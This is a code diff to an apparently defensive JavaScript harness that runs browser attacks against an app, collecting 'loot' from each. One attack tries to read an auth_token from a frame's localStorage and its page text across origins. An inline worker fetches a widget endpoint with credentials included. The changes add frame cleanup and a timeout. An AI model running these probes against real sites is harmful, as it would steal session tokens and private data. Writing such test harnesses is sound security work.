@@ -16,9 +16,14 @@
     const isLoaded = loaded(element);
     document.body.append(element);
     await isLoaded;
-    const { contentWindow, contentDocument } = element;
-    // throws unless the frame has the same origin
-    return `readable ${contentWindow.localStorage.auth_token ?? ""}${contentDocument.body.innerText}`;
+    try {
+      const { contentWindow, contentDocument } = element;
+      // throws unless the frame has the same origin
+      return `readable ${contentWindow.localStorage.auth_token ?? ""}${contentDocument.body.innerText}`;
+    } finally {
+      // its open connections would keep later attacks waiting
+      element.remove();
+    }
   };
   const text = async (path, options) => (await fetch(app + path, options)).text();
   const script = `postMessage("worker " + (self.indexedDB ? "ran" : "")); fetch("${app}/v1/widget/link", {credentials: "include"}).then((r) => r.text()).then(postMessage, () => {})`;
@@ -210,7 +215,7 @@
     const got = {};
     for (const [name, attack] of Object.entries(attacks)) {
       try {
-        const loot = await attack();
+        const loot = await Promise.race([attack(), wait(20_000)]);
         if (loot) got[name] = String(loot).slice(0, 200);
       } catch {}
     }
